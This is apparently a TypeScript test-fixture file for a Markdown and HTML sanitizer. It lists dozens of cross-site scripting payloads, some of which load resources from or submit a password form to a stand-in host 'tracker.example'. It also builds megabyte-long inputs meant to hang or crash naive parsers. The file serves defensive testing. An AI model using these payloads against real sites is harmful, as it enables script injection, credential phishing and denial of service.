/** Host of external images, frames and styles, which must not be requested. */
export const foreignHost = 'tracker.example';

/**
 * Texts that try to run scripts, load resources, send requests, navigate or imitate other content. Each
 * contains the word `harmless`, which must be displayed.
 */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: 'harmless <script>document.title = "owned"</script>',
  'script in a block': '<script>document.title = "owned"</script>\n\nharmless',
  'script in a script': '<scr<script></script>ipt>document.title = "owned"</script>\n\nharmless',
  'endless script': 'harmless <script src=x> harmless',
  handlers: '<p onclick="document.title = \'owned\'" onmouseover=alert(1)>harmless</p>',
  'handler of a picture': 'harmless <img src=x onerror="document.title = \'owned\'">',
  'handler after a slash': '<p/onclick="document.title=\'owned\'"/onfocus=alert(1)>harmless</p>',
  'handler after a quoted bracket': '<p title=">" onclick="document.title=\'owned\'">harmless</p>',
  'javascript link': '[harmless](javascript:document.title=1) <a href="javascript:alert(1)">x</a>',
  'javascript link in disguise':
    '[harmless](JaVa&#x73;cript:alert(1)) <a href="java\nscript:alert(1)">x</a> <a href=" &#1;javascript:alert(1)">y</a>',
  'data link': '[harmless](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'vbscript link': '[harmless](vbscript:msgbox(1)) <vbscript:x>',
  'file link':
    '[harmless](file:///etc/passwd) [x](mailto:a@b.example) [y](//tracker.example/x) [z](/settings)',
  'link by reference': '[harmless][1] [x]\n\n[1]: javascript:alert(1)\n[x]: data:text/html,x "title"',
  svg: 'harmless <svg onload="document.title=\'owned\'"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg with a style':
    'harmless <svg><style><img src=http://tracker.example/svg.png onerror=alert(1)></style></svg>',
  math: 'harmless <math><mtext><table><mglyph><style><!--</style><img src=http://tracker.example/m.png>',
  iframe:
    'harmless <iframe src="http://tracker.example"></iframe><iframe srcdoc="<script>alert(1)</script>">',
  object: 'harmless <object data="http://tracker.example/x"></object><embed src="http://tracker.example/y">',
  form: 'harmless <form action="http://tracker.example"><input name="password"><button>Sign in</button></form>',
  styles:
    'harmless <style>body { display: none }</style><div style="position:fixed;inset:0" class="x" id="root">x</div>',
  'foreign picture': 'harmless ![alt](http://tracker.example/a.png) <img src="http://tracker.example/b.png">',
  'foreign pictures in other elements':
    'harmless <picture><source srcset="http://tracker.example/c.png"></picture><video poster="http://tracker.example/d.png"></video><audio src="http://tracker.example/e"></audio><link rel="stylesheet" href="http://tracker.example/f.css"><table background="http://tracker.example/g.png"><tr><td>x</td></tr></table>',
  'picture in a link': '[![harmless](http://tracker.example/h.png)](javascript:alert(1))',
  meta: 'harmless <meta http-equiv="refresh" content="0;url=http://tracker.example"><base href="http://tracker.example/">',
  'nested markdown': 'harmless **_~~[a](javascript:x)~~_** > - 1. [b](<javascript:alert(1)> "t") `<script>`',
  'code block that ends early':
    '```html\n</code></pre><script>document.title="owned"</script>\n```\n\nharmless',
  'attributes of a link': '[harmless](https://ok.example "x\\" onclick=\\"alert(1)")',
  'mutated tags': 'harmless <noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutated comment': 'harmless <!--><img src=x onerror=alert(1)>--> <![CDATA[<img src=x onerror=alert(1)>]]>',
  template: 'harmless <template><img src="http://tracker.example/t.png"></template><slot name=x></slot>',
  'name of a form':
    'harmless <a id="location" name="cookie">x</a><form id="attributes"><input name="nodeName"></form>',
  'mention with a hostile name':
    'harmless @[<img src=x onerror=alert(1)>](user:1) @["onclick=alert(1)](user:2)',
  'mention with a hostile id':
    'harmless @[Ann](user:"><script>alert(1)</script>) @[Bo](user:javascript:alert(1))',
  'mention in a link':
    '[harmless @[Ann](user:1)](javascript:alert(1)) [@[Ann](user:1)](https://tracker.example)',
  'position of a missing mention': 'harmless <ins title="0">x</ins><ins title="-0"></ins>',
  'right-to-left override':
    'harmless \u202Egnp.exe\u202C \u2066x\u2069 [https://good.example](https://tracker.example)',
  'invisible characters':
    'harmless [a](https://ok\u200b.example) java\u0000script:alert(1) \uFEFF\uD800 \uDC00',
  'null characters': 'harmless <scr\u0000ipt>document.title="owned"</scr\u0000ipt>',
};

const megabyte = 1_000_000;

/** Texts that take a naive parser minutes, or crash it. */
export const heavyTexts: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({
    'open brackets': '[',
    'links that do not end': '[a](',
    pictures: '![',
    quotes: '> ',
    'quotes close together': '>',
    stars: '*a **a ',
    underscores: '_a',
    tildes: '~a~~',
    backticks: '`a``',
    'tags that do not end': '<a ',
    'endless scripts': '<script>',
    elements: '<div>\n',
    lists: '- ',
    mentions: '@[a](user:1) ',
    'mentions that do not end': '@[',
    spaces: '          ',
    lines: '\n',
    words: 'word ',
    one: 'x',
  }).map(([name, part]) => [name, part.repeat(Math.ceil(megabyte / part.length))]),
);
